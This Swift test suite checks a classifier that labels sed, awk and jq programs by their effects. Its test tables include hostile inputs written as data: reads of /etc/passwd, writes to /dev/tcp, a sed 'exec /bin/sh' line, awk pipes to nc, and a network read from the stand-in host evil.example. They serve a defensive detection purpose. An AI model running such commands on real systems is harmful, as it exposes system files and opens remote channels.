// SPDX-License-Identifier: Apache-2.0

import Testing

@testable import Effects

/// Programs that the interpreters of this machine run as well: see `TracedProgramTests`.
enum Harmless {
    static let sed = [
        "s/a/b/", "s/a/b/g;s/c/d/I", "s,|, ,g", "s#/a/b#/c#2p", "4,6d", "/^#/d", "$!N;P;D", ":a;N;$!ba;s/\\n/ /g",
        "1!G;h;$!d", "/a/,/b/{s/x/y/;p}", "0,/x/s//y/", "2~3p", "/a/,+2p", "$a\\\nlast line", "a last line", "i\\  x",
        "c\\\na\\\nb", "y/abc/xyz/", "s/[/]/x/g", "s/[^]/]*/x/", "s/[[:space:]]*$//", "\\,a,d", "\\|a|,\\|b|p", "=",
        "l 20",
        "q", "5q", "q5", "/x/Q", "n;d", "# a comment\ns/a/b/ # another", "s/a/b/;;s/c/d/;", "{p;p}", "1,2{/a/{p}}",
        "/a/b end;s/x/y/;:end", "s/\\(a\\)\\(b\\)/\\2\\1/", "s/a/x\\\ny/", "s/a\\/b/c/", "/a/!s/b/c/", "1 ! p",
        "s/x/y/w /dev/stdout",
        "F", "z;s/^/x/", "s/e/E/", "s/w/x/", "s/a/e id/", "N;N;s/\\n/,/g", "1,2b;/^.\\{6\\}/{s//0\\1/;p;q;}", "/x/I p",
        "s|x|y|;T;s/a/b/", "",
    ]
    static let awk = [
        "{print $1}", "NR==1", "{sum += $1} END {print sum}", "BEGIN {FS=\":\"} {print $1, $NF}", "/a/,/b/",
        "!/x/ {print}",
        "length == 33", "{printf \"%s|\", $0} END {printf \"\\n\"}", "FNR==NR {a[$1]++; next} $1 in a", "NR%3==1",
        "{gsub(/[^/]+$/, \"\"); print}", "$1 == \"inet\" {print $2}", "{print $(NF-1)}",
        "/PID *USER/{print;getline;print}",
        "{n = split($0, a, /,/); for (i = n; i > 0; i--) print a[i]}", "{print (NF==2?\"y\":\"\")}", "{print $1 / $2}",
        "function f(x) { return x * 2 } {print f($1)}", "BEGIN { while ((getline line) > 0) print line }",
        "{ if ($1 > 3) print \"big\"; else print \"small\" }", "{print > \"/dev/stderr\"}",
        "{print | \"cat\"}".replacingPipe,
        "BEGIN{print toupper(substr(\"abc\", 1, 2)) # no system(\"id\")\n}", "{print \"system(\\\"id\\\")\"}",
        "{ $2 = \"\"; print }",
        "{print (1 > 2)}", "BEGIN { x = \"A\"; y = x (1) ; print y }",
        "{a[$1] = a[$1] \" \" $2} END {for (k in a) print k, a[k]}",
        "/system/ {print}", "BEGIN {print ENVIRON[\"HOME\"]}", "{ print $1 \"/\" $2 }",
        "BEGIN { printf(\"%d\\n\", 1e3) }",
        "$3 ~ /^[0-9]+$/ && $3 >= 10", "{ while (i < 3) { i++; continue } delete a; exit 1 }", "",
    ]
    static let jq = [
        ".", ".a.b", ".[] | select(.x == \"y\") | .name", "map(.name)", "{a: .b, \"c d\": .[\"e\"]}",
        "\"\\(.a)-\\(.b | tostring)\"",
        ". + {\"k\": \"v\"}", "to_entries | map(\"\\(.key)=\\(.value)\") | .[]", "if .a then 1 else 2 end",
        "try error(\"x\") catch .",
        "reduce .[] as $x (0; . + $x)", "def f(x): x * 2; f(.a)", "env.HOME, $ENV.PATH", "input_filename",
        "@base64, @csv \"\\(.a)\"",
        ".a? // \"import\"", "# a comment\n.a", ".a |= . + 1", "limit(3; .[])", "[.[] | .a] | add", "..|numbers",
        "$__loc__",
    ]
}

extension String {
    /// The table must have no pipe that runs something.
    fileprivate var replacingPipe: String { replacing(" | \"cat\"", with: "") }
}

@Suite struct TextToolTests {
    @Test(arguments: Harmless.sed) func `a sed script that works on text alone does nothing`(script: String) {
        #expect(done(.sed, script) == [])
    }

    @Test(arguments: [
        ("r /etc/passwd", ["read /etc/passwd"]), ("1R x;y", ["read x;y"]), ("w out.txt", ["write out.txt"]),
        ("/a/W /tmp/x y", ["write /tmp/x y"]), ("s/a/b/w log}", ["write log}"]), ("s/a/b/gpw ../x", ["write ../x"]),
        ("{w a\n}", ["write a"]), ("{r a}\n}", ["read a}"]), ("w /dev/tcp/h/80", ["write /dev/tcp/h/80"]),
        ("w a\nw b", ["write a", "write b"]), ("$!{$!N};w  a", ["write a"]), ("w -", ["write -"]),
        ("s/a/b/w a\nr b\ne id", ["write a", "read b", "shell id"]),
        ("e id", ["shell id"]), ("1e exec /bin/sh 1>&0", ["shell exec /bin/sh 1>&0"]), ("e", ["opaque code"]),
        ("1,5e", ["opaque code"]), ("s/.*/id/e", ["opaque code"]), ("s/a/b/ge", ["opaque code"]),
        ("s/a/b/eg;p", ["opaque code"]),
        ("s,a,b,Ie", ["opaque code"]), ("/x/{s/a/b/e}", ["opaque code"]), ("s/[/]/id/e", ["opaque code"]),
        ("s#a#b#e # x", ["opaque code"]), ("s/a/x\\\ny/e", ["opaque code"]), ("a x\ne id", ["shell id"]),
        ("a\\\nx\\\ny\ne id", ["shell id"]), ("# x\ne id", ["shell id"]), ("y/a/b/;e id", ["shell id"]),
        (":a\ne id", ["shell id"]), ("\\xaxe id", ["shell id"]), ("s/\\[/]/e", ["opaque code"]),
        ("/[/]/e id", ["shell id"]),
        ("1!e id", ["shell id"]), ("1,/x/ !  e id", ["shell id"]), ("s/a/b/;e\tid", ["shell id"]),

    ])
    func `sed reads, writes and runs what r, w, s and e say`(script: String, actions: [String]) {
        #expect(done(.sed, script) == actions)
    }

    @Test(arguments: [
        "k", "a\\\\\ne id", "s/a/b", "s/a", "p}", "{p", "s/a/b/k", "s/[a/b/", "p p", ":", "s", "y/a/b", "/a",
        "s/a/b/ g", "s\\a\\b\\",
        "w", "r ", "p\u{0}", "p # \r e id", ":a}e id", "a x\u{2028}", "1,p", "e\u{7}id", "s a b ",
    ])
    func `a sed script that is not understood is code`(script: String) {
        #expect(done(.sed, script) == ["opaque code"])
    }

    @Test(arguments: Harmless.awk) func `an awk program that works on text alone does nothing`(program: String) {
        #expect(done(.awk, program) == [])
    }

    @Test(arguments: [
        ("BEGIN{system(\"id\")}", ["shell id"]), ("BEGIN{system (\"id\")}", ["shell id"]),
        ("{system(\"rm \" $1)}", ["opaque code"]),
        ("{system($0)}", ["opaque code"]), ("BEGIN{awk::system(\"id\")}", ["shell id"]),
        ("1{system(\"id\")}", ["shell id"]),
        ("BEGIN{\"date\" | getline d; print d}", ["shell date"]), ("BEGIN{\"da\" \"te\" | getline}", ["opaque code"]),
        ("BEGIN{c=\"id\"; c | getline}", ["opaque code"]),
        ("BEGIN{while ((\"ls\" | getline f) > 0) print f}", ["shell ls"]),
        ("BEGIN{while (\"ls\" | getline > 0) n++}", ["shell ls"]), ("BEGIN{x = \"a\" | getline}", ["opaque code"]),
        ("{print | \"sort\"}", ["shell sort"]), ("{print $1 | \"sort -u\"; close(\"sort -u\")}", ["shell sort -u"]),
        ("{print $1 | \"sh \" x}", ["opaque code"]), ("{print | cmd}", ["opaque code"]),
        ("{printf \"%s\", $1 |& \"nc h 1\"}", ["shell nc h 1"]),
        ("{print > \"out\"}", ["write out"]), ("{print $1, $2 >> \"out\"}", ["write out"]),
        ("{print > $1}", ["opaque path-write"]),
        ("{print > \"out\" \".txt\"}", ["opaque path-write"]), ("{print > (\"out\")}", ["opaque path-write"]),
        ("{printf(\"%s\", $1) > \"out\"}", ["write out"]),
        ("{if ($1) print > \"a\"; else print > \"b\"}", ["write a", "write b"]),
        ("BEGIN{while ((getline l < \"/etc/passwd\") > 0) print l}", ["read /etc/passwd"]),
        ("BEGIN{getline < \"x\"; print}", ["read x"]),
        ("BEGIN{getline a[1] < \"x\"}", ["read x"]), ("BEGIN{getline $1 < \"x\"}", ["read x"]),
        ("BEGIN{getline x < f}", ["opaque path-read"]),
        ("BEGIN{getline x < \"a\" f}", ["opaque path-read"]), ("BEGIN{getline x < \"-\"}", []),
        ("BEGIN{ARGV[1]=\"/etc/passwd\"; ARGC=2}", ["opaque path-read"]),
        ("BEGIN{s=\"/inet/tcp/0/10.0.0.1/4242\"; print 1 |& s}", ["opaque code"]),
        ("BEGIN{\"/inet/tcp/0/evil.example/80\" |& getline x}", ["host evil.example:80"]),
        ("BEGIN{print \"x\" > \"/inet/udp/0/h/53\"}", ["host h:53"]),
        ("BEGIN{print \"x\" |& \"/inet/tcp/0/h/\"}", ["opaque host"]),
        ("BEGIN{print \"\\x69d\" | \"\\x69d\"}", ["opaque code"]), ("{print \"a\" \"b\" > \"x\"}", ["write x"]),
        ("BEGIN{print 1 / 2; system(\"id\") / 1}", ["shell id"]), ("/[/]/{system(\"id\")}", ["shell id"]),
        ("BEGIN{print \"#\"; system(\"id\")}", ["shell id"]),
        ("BEGIN { if (!(\"id\" | getline)) print }", ["shell id"]),
        ("{ print 1 ; \\\n system(\"id\") }", ["shell id"]), ("END{print \"a\" ; {print | \"sh\"}}", ["shell sh"]),
    ])
    func `awk runs and touches what its operators say`(program: String, actions: [String]) {
        #expect(done(.awk, program) == actions)
    }

    @Test(arguments: [
        "@load \"filefuncs\"; BEGIN{chdir(\"/\")}", "@include \"x\"", "BEGIN{f=\"system\"; @f(\"id\")}",
        "BEGIN{unlink(\"x\")}",
        "BEGIN{SYMTAB[\"ARGV\"]}", "BEGIN{\"open", "BEGIN{print /x", "BEGIN{(}", "BEGIN{print 1x}",
        "BEGIN{1system(\"id\")}",
        "BEGIN { x++ /system(\"id\")/ 1 }", "BEGIN{getline /x/ 1}", "BEGIN{print `id`}", "{print $1}\u{2028}",
        "BEGIN{system}",
        "\u{430}", "{print \u{2018}x\u{2019}}", "BEGIN{print $/x/; system(\"id\")#/}",
    ])
    func `an awk program that is not understood is code`(program: String) {
        #expect(done(.awk, program) == ["opaque code"])
    }

    @Test(arguments: Harmless.jq) func `a jq filter does nothing`(filter: String) {
        #expect(done(.jq, filter) == [])
    }

    @Test(arguments: [
        "import \"x\" as x; .", "include \"x\"; .", "\"x\" | modulemeta", "import \"/etc/passwd\" as $d; $d",
        "\"\\(include \"x\"; 1)\"",
        "\"open", "\"\\(.a\"", "# x \\\n.a", "`id`", ".a\u{0}", "def import: 1; import", "\u{ff49}mport",
        "get_search_list",
    ])
    func `a jq filter that loads files, or is not understood, is code`(filter: String) {
        #expect(done(.jq, filter) == ["opaque code"])
    }

    @Test func `a program that is too long is code`() {
        let long = String(repeating: "p;", count: Limits.codeBytesMax / 2)
        #expect(done(.sed, long) == [])
        #expect(done(.sed, long + "p") == ["opaque code"])
        #expect(done(.awk, String(repeating: "(", count: 40000)) == ["opaque code"])
        #expect(done(.jq, String(repeating: "\"\\(", count: 20000)) == ["opaque code"])
        #expect(done(.sed, (0...256).map { "w \($0)" }.joined(separator: "\n")) == ["opaque code"])
    }

    @Test(arguments: [ProgramAction.Language.lua, .other]) func `other languages are code`(
        language: ProgramAction.Language
    ) {
        #expect(done(language, "") == ["opaque code"])
        #expect(done(language, "print(1)") == ["opaque code"])
    }
}
